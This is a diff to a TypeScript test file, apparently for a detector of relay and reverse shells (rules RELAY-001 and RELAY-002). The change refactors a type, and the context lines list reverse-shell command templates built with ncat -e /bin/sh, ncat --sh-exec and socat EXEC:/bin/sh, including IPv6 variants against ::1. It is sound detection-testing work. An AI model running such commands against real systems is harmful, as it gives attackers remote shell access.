@@ -114,7 +114,8 @@ describe.runIf(tier.run)("kernel: RELAY-001 and RELAY-002 on real relay shells a
     return (tlsKeys = { key: readFileSync(key, "utf8"), cert: readFileSync(cert, "utf8") });
   };
 
-  const relays: { name: string; cmd: (h: string, p: number) => string; relay: string[]; host?: string; listenHost?: string; tls?: boolean }[] = [
+  type RelayCase = { name: string; cmd: (h: string, p: number) => string; relay: string[]; host?: string; listenHost?: string; tls?: boolean };
+  const relays: RelayCase[] = [
     { name: "ncat -e /bin/sh (pipes)", cmd: (h, p) => `ncat ${h} ${p} -e /bin/sh`, relay: ["ncat"] },
     { name: "ncat -e /bin/sh over IPv6", host: "::1", cmd: (h, p) => `ncat ${h} ${p} -e /bin/sh`, relay: ["ncat"] },
     { name: "ncat --sh-exec 'sh -i' (pipes, the shell started through sh -c)", cmd: (h, p) => `ncat ${h} ${p} --sh-exec 'sh -i'`, relay: ["ncat"] },
@@ -194,7 +195,7 @@ while True:
 
   // IPv6: the same relays against a ::1 listener (nc.traditional has no IPv6: ncat plays nc).
   const bracket = (h: string) => (h.includes(":") ? `[${h}]` : h);
-  const v6: typeof relays = [
+  const v6: RelayCase[] = ([
     { name: "socat EXEC:/bin/sh over IPv6", cmd: (h, p) => `socat TCP6:${bracket(h)}:${p} EXEC:/bin/sh`, relay: ["socat"] },
     {
       name: "socat EXEC:'bash -li',pty,stderr,setsid,sigint,sane over IPv6",
@@ -220,7 +221,7 @@ while True:
     ...relays
       .filter((r) => (r.name.startsWith("python") && !r.name.includes("mkfifo")) || r.name.startsWith("node"))
       .map((r) => ({ ...r, name: `${r.name} over IPv6` })),
-  ].map((r) => ({ ...r, host: "::1" }));
+  ] as RelayCase[]).map((r) => ({ ...r, host: "::1" }));
   relays.push(...v6);
   // An AF_INET6 socket connected to a v4-mapped address reaches an IPv4 listener: the record
   // keeps the address as the socket has it.
